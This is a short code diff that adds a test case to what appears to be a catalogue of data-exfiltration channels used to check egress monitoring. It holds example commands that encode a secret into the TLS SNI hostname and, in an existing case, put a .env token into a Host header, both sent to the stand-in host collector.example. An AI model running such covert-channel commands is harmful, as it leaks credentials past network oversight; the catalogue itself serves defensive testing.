@@ -80,6 +80,15 @@ PLACES = Family(
             host="",
         ),
         Way(
+            id="sni",
+            title="the name in the TLS handshake (SNI), not in CONNECT",
+            script='python \'note(); name = secret().lower() + ".collector.example"\n'
+            'ask(tunnel("collector.example", sni=name), request(b"x"))\'',
+            named=lambda value: f"{value.decode().lower()}.collector.example",
+            arrives=lambda value: (b"sni " + value.lower(),),
+            host="",
+        ),
+        Way(
             id="host-header",
             title="the Host header of a tunnel",
             script=f'. ./.env; {_CURL} -H "Host: $TOKEN.example" "$URL"',
